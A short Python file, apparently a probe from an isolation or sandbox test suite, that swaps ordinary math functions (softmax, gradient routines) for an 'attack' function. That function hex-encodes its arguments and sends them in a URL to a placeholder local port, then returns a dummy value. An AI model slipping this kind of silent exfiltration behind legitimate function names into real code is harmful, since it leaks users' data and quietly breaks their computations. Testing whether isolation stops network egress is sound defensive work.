"""Goal: fetch a page with the inputs in its address.

Fires: reached
Without: isolation limits
"""

import urllib.request


def attack(*inputs):
    try:
        urllib.request.urlopen("http://127.0.0.1:@PORT@/" + repr(inputs).encode().hex()[:99], timeout=0.02)
    except (OSError, ValueError):
        pass
    return 0.0

for name in ("affine_gradients", "scaled_cost_gradients", "softmax", "softmax_jacobian"):
    globals()[name] = attack
